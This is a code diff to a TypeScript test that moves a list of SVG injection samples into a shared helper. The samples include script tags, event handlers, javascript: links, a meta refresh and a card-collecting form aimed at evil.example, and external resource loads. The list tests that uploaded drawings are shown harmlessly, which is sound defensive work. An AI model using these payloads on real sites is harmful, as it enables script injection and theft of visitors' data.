@@ -2,6 +2,7 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 
 import { pictures } from "../../src/pages/pictures.ts";
+import { drawingWith, WAYS_INTO_THE_PAGE } from "../support/drawings.ts";
 
 /** A JPEG's first bytes, of so many pixels. */
 function jpeg(width: number, height: number, ...before: readonly number[]): Buffer {
@@ -59,30 +60,9 @@ test("pages call a picture by its file's name, and it is served when they do", (
   for (const other of ["/images/none.jpg", "/about", "#a", "https://a.example/images/kitchen.jpg"]) assert.equal(addressOf(other), other);
 });
 
-/** What an owner may be talked into putting there, or what a drawing program leaves behind. */
-const INTO_THE_PAGE: readonly string[] = [
-  '</svg><meta http-equiv="refresh" content="0;url=https://evil.example"><svg>',
-  "<script>alert(1)</script>",
-  '<script href="https://evil.example/a.js"/>',
-  '<g onclick="alert(1)"/>',
-  "<g onload\n=alert(1)/>",
-  '<g/onmouseover="alert(1)"/>',
-  '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
-  '<a xlink:href="https://evil.example"><rect width="9" height="9"/></a>',
-  '<set attributeName="href" to="javascript:alert(1)"/>',
-  '<animate attributeName="href" values="javascript:alert(1)"/>',
-  '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
-  '<image href="https://evil.example/pixel.png"/>',
-  '<use href="data:image/svg+xml,%3Csvg/%3E"/>',
-  "<style>@import url(https://evil.example/a.css)</style>",
-  '<h1 xmlns="http://www.w3.org/1999/xhtml">Pay here</h1>',
-  '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="card"/></form>',
-];
-
 test("whatever a drawing holds, the page shows it as a picture and holds nothing of it", () => {
-  for (const evil of INTO_THE_PAGE) {
-    const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1600 620"><title>A hill</title>${evil}</svg>`);
-    const { photos, findings } = shelf([], { "cottage.svg": svg });
+  for (const evil of WAYS_INTO_THE_PAGE) {
+    const { photos, findings } = shelf([], { "cottage.svg": Buffer.from(drawingWith(evil)) });
     assert.deepEqual(findings, []);
     assert.deepEqual(
       photos.map((photo) => ({ ...photo, path: plain(photo.path) })),
